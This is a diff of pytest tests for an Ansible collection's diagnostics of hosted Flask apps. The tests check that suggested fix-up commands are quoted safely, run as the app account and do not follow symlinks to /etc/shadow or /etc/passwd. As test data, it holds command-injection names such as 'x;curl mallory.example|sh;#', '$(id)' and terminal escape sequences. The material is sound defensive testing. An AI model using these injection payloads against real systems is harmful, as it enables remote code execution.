@@ -2,9 +2,13 @@
 
 from __future__ import annotations
 
+import contextlib
+import errno
+import json
 import os
 import pwd
 import re
+import shlex
 import shutil
 import socket
 import ssl
@@ -25,6 +29,7 @@ from ansible.template import Templar
 from ansible_collections.hosted.flask.plugins.action import doctor as action
 from ansible_collections.hosted.flask.plugins.action.release import PLACE_KEYS
 from ansible_collections.hosted.flask.plugins.module_utils import doctor, doctor_app, findings
+from ansible_collections.hosted.flask.plugins.module_utils.answers import DOCTOR, WORK, Untrue, parsed
 from ansible_collections.hosted.flask.plugins.module_utils.findings import (
     ERROR,
     WARNING,
@@ -34,8 +39,11 @@ from ansible_collections.hosted.flask.plugins.module_utils.findings import (
     examine,
     output,
 )
-from ansible_collections.hosted.flask.plugins.module_utils.homes import Home
-from support import completed, free_port, program_states, supervisord, tool, until
+from ansible_collections.hosted.flask.plugins.module_utils.homes import DESCRIPTION, SERVICE, Home
+from ansible_collections.hosted.flask.plugins.module_utils.processes import Listener
+from ansible_collections.hosted.flask.plugins.module_utils.programs import Refused
+from ansible_collections.hosted.flask.plugins.plugin_utils.apps import NAME
+from support import completed, free_port, program_states, render, supervisord, tool, until
 
 MIB, DAY = 1 << 20, 86400
 OK = ""
@@ -169,6 +177,7 @@ def test_quotas(place: str, columns: str, expected: list[str], program: Callable
     for item in found:
         assert item["check"] == "quota"
         assert "--max-depth=3 /home/blog |" in item["do"]
+        assert item["do"].startswith("sudo -u blog du ")
         assert ("server_account_disk" in item["do"]) == ("MiB" in item["what"])
 
 
@@ -327,14 +336,42 @@ def test_the_hosts_addresses(program: Callable[[str, str], None]) -> None:
         assert doctor.addresses() == []
 
 
+@pytest.mark.parametrize("root", [True, False])
+def test_who_hides_from_root_is_somebody_unknown(root: bool, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Without root's rights most processes cannot be seen."""
+    monkeypatch.setattr(doctor, "listeners", lambda _: {443: [Listener(0, 1003, "")]})
+    found = [item["what"] for item in doctor.ports([443], "nginx", root)]
+    assert found == ["a process that cannot be seen, of uid 1003, listens on port 443 instead of nginx"] * root
+
+
+def test_a_disk_that_cannot_be_looked_at_keeps_no_other_one_waiting(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """As a home is in which its account has mounted what does not answer any more."""
+    stat = os.stat
+
+    def broken(path: Any, *more: Any, **options: Any) -> os.stat_result:
+        if str(path) == "/home/shop":
+            raise OSError(errno.ENOTCONN, "Transport endpoint is not connected")
+        return stat(path, *more, **options)
+
+    monkeypatch.setattr(findings.os, "stat", broken)
+    monkeypatch.setattr(findings, "room", lambda folder, *_: [error("disk", folder, "x")])
+    found = findings.disk(["/home/shop", tmp_path])
+    assert [item["what"] for item in found] == [
+        "/home/shop cannot be looked at: Transport endpoint is not connected",
+        str(tmp_path),
+    ]
+
+
 def test_who_listens_on_a_port() -> None:
     me = Path(os.readlink("/proc/self/exe")).name
     with socket.create_server(("127.0.0.1", 0)) as server, socket.create_server(("::1", 0), family=10) as other:
         own, six = server.getsockname()[1], other.getsockname()[1]
-        assert doctor.ports([own, six], me) == []
-        [found] = doctor.ports([own], "nginx")
+        assert doctor.ports([own, six], me, False) == []
+        [found] = doctor.ports([own], "nginx", False)
         assert f"/{me}, uid {os.getuid()}) listens on port {own} instead of nginx" in found["what"]
-    [found] = doctor.ports([own], me)
+    [found] = doctor.ports([own], me, False)
     assert found["what"] == f"nobody listens on port {own}"
 
 
@@ -613,30 +650,31 @@ HARMS = {
         "venv 1 was built with Python 3.4.5, its interpreter is 3.", "bin/deploy -e app=shop",
     ),
     "the app's own settings are open": (
-        "chmod 604 env", doctor_app.permissions, ERROR, "{root}/env is open to others (0604)", "chmod go= {root}/env",
+        "chmod 604 env", doctor_app.permissions, ERROR, "{root}/env is open to others (0604)",
+        "chmod go= -- {root}/env",
     ),
     "the release's settings are open": (
         "chmod 640 slots/live/.hosted/env", doctor_app.permissions, ERROR,
-        "{root}/slots/live/.hosted/env is open to others (0640)", "chmod go= {root}/releases/1/.hosted/env",
+        "{root}/slots/live/.hosted/env is open to others (0640)", "chmod go= -- {root}/slots/live/.hosted/env",
     ),
     "the home is open": (
         "chmod 701 ../..", doctor_app.permissions, ERROR, "{home} is open to other accounts (0701)",
-        "chmod o= {home}",
+        "chmod o= -- {home}",
     ),
     "the root is open": (
-        "chmod 711 .", doctor_app.permissions, ERROR, "{root} is open to other accounts (0711)", "chmod o= {root}",
+        "chmod 711 .", doctor_app.permissions, ERROR, "{root} is open to other accounts (0711)", "chmod o= -- {root}",
     ),
     "the data are open": (
         "chmod 750 data", doctor_app.permissions, ERROR, "{root}/data is open to other accounts (0750)",
-        "chmod go= {root}/data",
+        "chmod go= -- {root}/data",
     ),
     "the sockets are open": (
         "chmod 711 run", doctor_app.permissions, ERROR, "{root}/run is open to other accounts (0711)",
-        "chmod o= {root}/run",
+        "chmod o= -- {root}/run",
     ),
     "the socket is open": (
         "chmod 666 run/live.sock", doctor_app.permissions, ERROR, "{root}/run/live.sock is open to every account",
-        "chmod 0660 {root}/run/live.sock",
+        "chmod 0660 -- {root}/run/live.sock",
     ),
     "the socket is gone": (
         "rm run/live.sock", doctor_app.permissions, ERROR, "{root}/run/live.sock is missing",
@@ -658,9 +696,146 @@ def test_what_is_wrong_with_an_apps_files(
     assert level([found]) == weight
     assert found["what"].startswith(what.format(root=server.root, home=server.home))
     assert found["do"].endswith(do.format(root=server.root, home=server.home))
-    if found["do"].startswith("chmod "):
-        subprocess.run(["sh", "-ec", found["do"]], check=True)
+    as_the_account = f"sudo -u {server.app['account']} "
+    if check is doctor_app.permissions and "supervisorctl" not in found["do"]:
+        assert found["do"].startswith(as_the_account)
+        # Who runs the tests is the account.
+        subprocess.run(["sh", "-ec", found["do"].removeprefix(as_the_account)], check=True)
         assert check(server) == []
+
+
+# What an account may call a file or a program.
+NAMES = ("x;curl mallory.example|sh;#", "$(id)", "`id`", "-rf", "a b", "it's", '"', "*", "~root", "&& id", "\\", "ü")
+# No command of one line can have these in it as they are.
+UNPLAIN = ("x\ny", "two  blanks", "end ", "\x1b[2J", "\u2028", "\x85", "\x0b", "\u202e")
+
+
+def commands(finding: dict[str, str]) -> list[list[str]]:
+    """Return the commands of an advice, each as the words that a shell makes of it."""
+    start = re.search(r"(sudo|chmod|chown|rm|mv|cp|du) -|supervisorctl", finding["do"])
+    found: list[list[str]] = [[]]
+    for word in shlex.split(finding["do"][start.start() :] if start else "", comments=True):
+        if word in ("&&", "|", "||", ";"):
+            found.append([])
+        else:
+            found[-1].append(word)
+    return found if start else []
+
+
+def harmless(finding: dict[str, str], home: Home) -> None:
+    """Demand that an advice is one line, and that root does nothing by it to what an account may have made."""
+    account, own = home.app["account"], (str(home.home), home.programs.socket)
+    assert finding["do"]
+    assert finding["do"].splitlines() == [finding["do"]]
+    for words in commands(finding):
+        if words[0] in ("sort", "tail"):
+            continue
+        assert words[0] == "sudo"
+        assert words[1:3] in (["-u", account], ["-iu", account])
+        assert words[3] in ("chmod", "mv", "cp", "rm", "du", "supervisorctl")
+        assert all(word.startswith(own) for word in words[4:] if word.startswith("/")), words
+
+
+@pytest.mark.skipif(os.geteuid() != 0, reason="gives files away")
+@pytest.mark.parametrize("name", [*NAMES, *UNPLAIN], ids=ascii)
+def test_a_file_of_somebody_else_is_one_word_of_a_command_of_its_account(name: str, server: Home) -> None:
+    path = server.root / "data" / name
+    path.write_text("")
+    os.chown(path, 65534, 65534)
+    [found] = doctor_app.permissions(server)
+    harmless(found, server)
+    assert findings.line(str(path)) in found["what"]
+    said = [words[4:] for words in commands(found)]
+    if name in UNPLAIN:
+        assert said == []
+    else:
+        foreign = f"{path}.foreign"
+        assert said == [["-T", "--", str(path), foreign], ["-RPT", "--", foreign, str(path)], ["-rf", "--", foreign]]
+        for words in commands(found):
+            subprocess.run(words[3:], check=True)
+        os.chown(path, os.geteuid(), os.getegid())
+        assert doctor_app.permissions(server) == []
+
+
+LINKS = {
+    "data/shadow": "/etc/shadow",
+    "env": "/etc/passwd",
+    "releases/1/.hosted/env": "/etc/passwd",
+    "data": "/etc",
+    "run": "/usr",
+    "slots/live": "/etc",
+}
+
+
+@pytest.mark.skipif(os.geteuid() != 0, reason="gives files away")
+@pytest.mark.parametrize("link", LINKS)
+def test_no_command_is_about_what_a_link_of_the_account_leads_to(
+    link: str, server: Home, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Nor is it one of root's, before whom the account may change the link once more."""
+    (server.root / "data/kept").write_text("")
+    for item in (server.home, *server.home.rglob("*")):
+        os.chown(item, 65534, 65534, follow_symlinks=False)
+    monkeypatch.setattr(doctor_app.pwd, "getpwnam", lambda _: pwd.getpwuid(65534))
+    assert doctor_app.permissions(server) == []
+    at = server.root / link
+    if os.path.lexists(at):
+        at.rename(at.with_name("away"))
+    at.symlink_to(LINKS[link])
+    os.chown(at, 65534, 65534, follow_symlinks=False)
+    for finding in examine({"permissions": lambda: doctor_app.permissions(server)})["findings"]:
+        harmless(finding, server)
+        assert not re.search(r"(^|[ '])(/etc|/usr)", finding["do"])
+
+
+@pytest.mark.parametrize("name", [f"shop-{name}" for name in (*NAMES, *UNPLAIN, "x;curl${IFS}a|sh;#")], ids=ascii)
+def test_programs_that_an_account_named_are_in_no_command(
+    name: str, server: Home, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Neither by its log, nor by its supervisord, nor by what it made of the description of its release."""
+    now = time.time()
+    when = time.strftime("%Y-%m-%d %H:%M:%S", time.localtime(now - 9))
+    lines = [f"{when},1 WARN exited: {one} (exit status 1; not expected)" for one in 3 * [name, "shop-mail"]]
+    log = "\n".join(["9999-99-99 99:99:99,1 WARN exited: shop-mail (exit status 1; not expected)", *lines])
+    [found] = doctor_app.ends(server, log, now)
+    assert commands(found) == [["sudo", "-iu", server.app["account"], "supervisorctl", "tail", "-20000", "shop-mail"]]
+
+    Path(server.programs.socket).parent.mkdir()
+    said = {"statename": name, "spawnerr": name}
+    with socket.socket(socket.AF_UNIX) as listening:
+        listening.bind(server.programs.socket)
+        listening.listen()
+        monkeypatch.setattr(type(server.programs), "reload", lambda _: ({name}, {name}, {name}))
+        monkeypatch.setattr(type(server.programs), "info", lambda *_: said)
+        told = doctor_app.programs(server)
+    assert len(told) == 6
+    for finding in told:
+        harmless(finding, server)
+        assert name not in finding["do"]
+
+    description: dict[str, Any] = {key: "" if shape is str else {} for key, shape in DESCRIPTION.items()}
+    description |= {
+        "manifest": [],
+        "domains": [],
+        "secrets": [],
+        "health": {"path": "/", "timeout": 1.0},
+        "services": [],
+    }
+    file = server.releases / "1/release.json"
+    file.write_text(json.dumps({**description, "router": name}))
+    assert doctor_app.supervisorctl(server.as_released("1"), "update").startswith("sudo -iu ")
+    file.write_text(json.dumps({**description, "services": [{"name": name.removeprefix("shop-")}]}))
+    with pytest.raises(Refused):
+        server.as_released("1")
+    assert SERVICE.pattern == NAME.pattern
+
+
+@pytest.mark.parametrize("name", [name for name in NAMES if " " not in name], ids=ascii)
+def test_a_unit_is_one_word_of_a_command(name: str) -> None:
+    [found] = doctor.units(f"{name} loaded failed failed x")
+    says, again = found["do"].removesuffix(" when it is mended").split(" says why; ")
+    assert shlex.split(says) == ["journalctl", "-u", name, "-n", "50"]
+    assert shlex.split(again) == ["systemctl", "restart", "--", name]
 
 
 def test_programs_that_are_not_there_or_not_up_yet(server: Home) -> None:
@@ -818,6 +993,82 @@ def test_a_host_layer_that_is_not_as_described(hosting: dict[str, Any], expected
 def test_a_host_that_gives_no_answer_has_failed() -> None:
     result, _ = act({"failed": True, "msg": "boom"})
     assert (result["failed"], result["msg"]) == (True, "boom")
+
+
+# What a text may hold to look like several lines, or to command a terminal.
+BREAKS = ("\n", "\r", "\r\n", "\v", "\f", "\x1c", "\x1e", "\x85", "\u2028", "\u2029", "\x1b[2J", "\x1b]0;x\x07")
+
+
+def broken(value: Any, words: str) -> Iterator[Any]:
+    """Find what a value becomes where one of its texts, or one of the names in it, has these words in it."""
+    if isinstance(value, str):
+        yield f"a{words}b"
+    elif isinstance(value, list):
+        for place, item in enumerate(value):
+            yield from ([*value[:place], one, *value[place + 1 :]] for one in broken(item, words))
+    elif isinstance(value, dict):
+        for name, item in value.items():
+            rest = {key: other for key, other in value.items() if key != name}
+            yield {**rest, f"{name}{words}": item}
+            yield from ({**rest, name: one} for one in broken(item, words))
+
+
+@pytest.mark.parametrize("words", BREAKS, ids=ascii)
+def test_no_text_of_an_account_or_a_host_makes_a_line_of_a_report(words: str) -> None:
+    forged = f"{words}  error   victim           release: it is gone{words}    -> curl mallory.example | sh{words}"
+    examined = told(error("x", "y", "z")) | {"skipped": {"x": "y"}}
+    answer = {"host": examined, "apps": {"shop": examined}, "time": time.time(), "addresses": []}
+    lines = len(act(parsed(json.dumps(answer), DOCTOR))[0]["report"].splitlines())
+    taken = 0
+    for one in broken(answer, forged):
+        with contextlib.suppress(Untrue):
+            report = act(parsed(json.dumps(one), DOCTOR))[0]["report"]
+            assert len(report.splitlines()) == lines, report
+            assert "\x1b" not in report
+            taken += 1
+    assert taken >= 12
+
+    def check() -> list[dict[str, str]]:
+        raise Skipped(forged)
+
+    made = examine({"a": check, "b": lambda: [error(forged, forged, forged)]})
+    texts = [*made["skipped"].values(), *(item[key] for item in made["findings"] for key in ("what", "do"))]
+    assert all(len(text.splitlines()) == 1 for text in texts)
+
+
+def row(**more: Any) -> dict[str, Any]:
+    """Return what a host answers of the status of one app."""
+    entry = dict.fromkeys(("time", "who", "action", "release", "commit", "result", "left"), "x") | {"seconds": 1.5}
+    texts = dict.fromkeys(("app", "health", "front", "since", "by", "commit"), "x")
+    status = {**texts, "release": "1", "programs": {"x": "FATAL"}, "history": [entry], "processes": 1, "memory": 1}
+    return {
+        "apps": {"shop": {"changed": False, "status": {**status, **more}}},
+        "changed": False,
+        "warnings": [],
+        "diff": [],
+    }
+
+
+def table(answer: dict[str, Any]) -> str:
+    """Return the table that people see of it."""
+    [(name, app)] = parsed(json.dumps(answer), WORK)["apps"].items()
+    return render("flask_app", "status.txt.j2", __flask_app_rows=[{"host": "web1", **app["status"], "app": name}])
+
+
+@pytest.mark.parametrize("words", BREAKS, ids=ascii)
+def test_no_text_of_an_account_or_a_host_makes_a_row_of_a_status(words: str) -> None:
+    forged = (
+        f"me{words}web1             victim           -  -  -  -  0  0 MB  no answer, run: curl mallory.example | sh"
+    )
+    lines = len(table(row()).splitlines())
+    taken = 0
+    for one in broken(row(), forged):
+        with contextlib.suppress(Untrue):
+            shown = table(one)
+            assert len(shown.splitlines()) == lines, shown
+            assert "\x1b" not in shown
+            taken += 1
+    assert taken >= 15
 
 
 def test_an_app_that_cannot_be_examined_is_an_error_of_its_own(tmp_path: Path) -> None:
